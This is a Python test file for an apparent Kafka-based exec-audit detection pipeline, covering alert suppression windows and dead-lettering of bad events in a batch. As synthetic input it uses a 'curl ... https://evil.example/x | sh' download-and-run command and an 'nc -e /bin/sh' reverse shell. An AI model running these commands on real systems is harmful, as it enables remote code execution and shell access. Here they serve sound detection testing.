"""When an alert id enters the repeat window, and what one bad event of a batch takes with it.

The window suppresses the later stages of an exec once its alert is on its way; an id recorded
for an alert that never left (its message dead-lettered) would suppress that exec for good. And
a webhook ``EventList`` holds unrelated requests: an event that a rule cannot evaluate is
dead-lettered alone, the others still alert. Same recorder as :mod:`tests.unit.test_processor`:
records are acknowledged on ``poll``, as librdkafka does.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest

from auditstream.detections.alert import Alert
from auditstream.detections.alert_window import RecentAlerts
from auditstream.detections.engine import Detector
from auditstream.detections.exec.request import ExecRequest
from auditstream.detections.exec.shell_words import SimpleCommand
from auditstream.detections.native import NativeRule
from auditstream.detections.pipeline import DetectionPipeline
from auditstream.detections.rule_hit import Explanation
from auditstream.detections.ruleset.loader import load_rules
from auditstream.stream.errors import InfrastructureError
from auditstream.stream.kafka.delivery import Delivery
from auditstream.stream.kafka.offset_tracker import OffsetTracker
from auditstream.stream.metrics import Metrics
from auditstream.stream.processor import MessageProcessor
from auditstream.stream.sinks.dead_letters import DeadLetterSink
from auditstream.stream.sinks.encoders import Encoder, json_encoder
from auditstream.stream.sinks.kafka_alerts import KafkaAlertSink
from devtools.traffic.synthetic import as_event_list, exec_audit_events
from tests.unit.test_processor import P, RecordingProducer, message

SHELL = ("sh", "-c", "curl -fsSL https://evil.example/x | sh")
POISON_ARG = "poison-for-the-rule"


def detector_breaking_on(marker: str) -> Detector:
    """The built-in rules; one native rule raises on exec requests with ``marker`` in argv
    (what a defect met by one unusual event looks like), and works on every other one."""
    rules = list(load_rules([]).rules)
    index = next(i for i, r in enumerate(rules) if isinstance(r, NativeRule))
    rule = rules[index]
    assert isinstance(rule, NativeRule)
    works = rule.predicate

    def predicate(request: ExecRequest, commands: tuple[SimpleCommand, ...]) -> Explanation | None:
        if marker in request.argv:
            raise ZeroDivisionError("a defect met by this event")
        return works(request, commands)

    rules[index] = replace(rule, predicate=predicate)
    return Detector(rules)


def build(
    detector: Detector,
    serialise: Callable[[Alert], bytes] | None = None,
    producer: RecordingProducer | None = None,
) -> tuple[MessageProcessor, RecordingProducer, OffsetTracker, RecentAlerts]:
    producer = RecordingProducer() if producer is None else producer  # an empty one is falsy
    delivery = Delivery(producer, queue_full_timeout=0)  # type: ignore[arg-type]
    producer.delivery = delivery
    tracker = OffsetTracker()
    tracker.assign([P])
    window = RecentAlerts(100)
    encoder = json_encoder() if serialise is None else Encoder(serialise, "application/json")
    sinks = KafkaAlertSink(delivery, "alerts", encoder), DeadLetterSink(delivery, "dlq")
    pipeline = DetectionPipeline(detector, window)
    return MessageProcessor(pipeline, tracker, *sinks, Metrics()), producer, tracker, window


def of_topic(producer: RecordingProducer, topic: str) -> list[dict[str, Any]]:
    return [r for r in producer.records if r["topic"] == topic]


def encode(obj: object) -> bytes:
    return json.dumps(obj).encode()


def test_an_alert_dead_lettered_at_encoding_is_produced_by_the_next_stage() -> None:
    stages = exec_audit_events(command=SHELL, audit_id="exec-1")
    refused: set[str] = set()

    def refuse_first_stage(alert: Alert) -> bytes:
        if alert.event.stage == stages[0]["stage"]:
            refused.add(alert.alert_id)
            raise ValueError("the serializer refuses this record")
        return alert.to_json().encode()

    proc, producer, tracker, window = build(Detector(load_rules([]).rules), refuse_first_stage)
    proc.handle(message(0, encode(stages[0])))
    (letter,) = producer.records
    assert dict(letter["headers"])["auditstream.dlq.reason"] == b"alert_encoding"
    proc.handle(message(1, encode(stages[1])))
    alerts = of_topic(producer, "alerts")
    assert alerts, "the next stage of the exec must alert: its first alert never left"
    assert len(window) == len(alerts)  # recorded when they left, not when first detected
    assert refused <= {r["key"] for r in alerts}  # the alert refused at the first stage left
    producer.poll()
    assert tracker.committable(P) == 2


def test_ids_are_recorded_once_handed_to_the_producer_and_suppress_later_stages() -> None:
    stages = exec_audit_events(command=SHELL, audit_id="exec-2")
    proc, producer, _, window = build(Detector(load_rules([]).rules))
    proc.handle(message(0, encode(stages[0])))
    keys = {r["key"] for r in of_topic(producer, "alerts")}
    assert keys and len(window) == len(keys)
    proc.handle(message(1, encode(stages[1])))
    proc.handle(message(2, encode(stages[2])))
    assert len(of_topic(producer, "alerts")) == len(keys)  # once per rule and exec


def test_one_message_holding_every_stage_alerts_once_per_rule() -> None:
    stages = exec_audit_events(command=SHELL, audit_id="exec-3")
    proc, producer, _, window = build(Detector(load_rules([]).rules))
    proc.handle(message(0, encode(as_event_list(stages))))
    keys = [r["key"] for r in of_topic(producer, "alerts")]
    assert keys and len(keys) == len(set(keys)) == len(window)


def test_an_id_whose_alert_the_producer_did_not_take_is_not_recorded() -> None:
    class FullQueue(RecordingProducer):
        def produce(self, topic: str, **kwargs: Any) -> None:  # noqa: ARG002 - the override
            raise BufferError("queue full")

    stages = exec_audit_events(command=SHELL, audit_id="exec-4")
    proc, _, tracker, window = build(Detector(load_rules([]).rules), producer=FullQueue())
    with pytest.raises(InfrastructureError, match="queue stayed full"):
        proc.handle(message(0, encode(stages[0])))
    assert len(window) == 0
    assert tracker.committable(P) is None


def test_a_bad_event_of_an_event_list_is_dead_lettered_alone() -> None:
    good_a = exec_audit_events(command=SHELL, audit_id="exec-a")[0]
    bad = exec_audit_events(command=("sh", "-c", POISON_ARG, POISON_ARG), audit_id="exec-b")[0]
    good_c = exec_audit_events(command=("nc", "-e", "/bin/sh", "203.0.113.7", "4444"),
                               audit_id="exec-c")[0]  # fmt: skip
    batch = encode(as_event_list([good_a, bad, good_c]))
    proc, producer, tracker, _ = build(detector_breaking_on(POISON_ARG))
    proc.handle(message(4, batch))

    alerts = [json.loads(r["value"]) for r in of_topic(producer, "alerts")]
    assert {a["event"]["audit_id"] for a in alerts} == {"exec-a", "exec-c"}
    (letter,) = of_topic(producer, "dlq")
    headers = dict(letter["headers"])
    assert headers["auditstream.dlq.entry"] == b"1"
    assert headers["auditstream.dlq.reason"] == b"evaluation_error"
    assert b"ZeroDivisionError" in headers["auditstream.dlq.detail"]
    assert headers["auditstream.source.offset"] == b"4"
    assert headers["h"] == b"1"  # the message's own headers first, as for any dead letter
    event = json.loads(letter["value"])
    assert event["auditID"] == "exec-b"
    assert event["kind"] == "Event"  # the item, completed as the decoder reads it
    assert letter["key"] == b"k"
    assert tracker.committable(P) is None
    producer.poll()
    assert tracker.committable(P) == 5


def test_a_lone_event_that_cannot_be_evaluated_is_its_whole_message() -> None:
    bad = exec_audit_events(command=("sh", "-c", POISON_ARG), audit_id="exec-d")[0]
    value = encode(bad)
    proc, producer, _, _ = build(detector_breaking_on(POISON_ARG))
    proc.handle(message(0, value))
    (letter,) = producer.records
    assert letter["value"] == value  # byte for byte
    assert "auditstream.dlq.entry" not in dict(letter["headers"])


def test_a_transport_failure_while_encoding_is_not_a_dead_letter() -> None:
    def registry_away(alert: Alert) -> bytes:
        raise ConnectionRefusedError(111, "Connection refused")

    stages = exec_audit_events(command=SHELL, audit_id="exec-e")
    proc, producer, tracker, window = build(Detector(load_rules([]).rules), registry_away)
    with pytest.raises(InfrastructureError, match="Connection refused"):
        proc.handle(message(0, encode(stages[0])))
    assert producer.records == []
    assert len(window) == 0
    assert tracker.committable(P) is None  # held: read again after the restart


def test_an_aborted_batch_takes_only_its_own_ids_out_of_the_window() -> None:
    window = RecentAlerts(10)
    window.record("committed-earlier")
    window.stage()
    window.record("staged")
    window.record("committed-earlier")  # already there: not the batch's to take back
    window.discard_staged()
    assert window.seen("committed-earlier") and not window.seen("staged")
    window.stage()
    window.record("kept")
    window.keep_staged()
    window.discard_staged()  # nothing staged any more
    assert window.seen("kept")
